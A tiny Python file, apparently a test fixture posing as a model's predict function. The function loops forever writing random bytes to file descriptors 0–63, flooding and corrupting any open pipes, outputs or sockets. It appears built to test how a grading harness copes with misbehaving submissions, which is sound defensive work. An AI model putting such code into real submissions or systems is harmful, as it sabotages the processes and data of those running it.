"""Fills the pipe with random bytes."""

import os


def predict(parameters, X):
    while True:
        for descriptor in range(64):
            try:
                os.write(descriptor, os.urandom(10_000))
            except OSError:
                pass
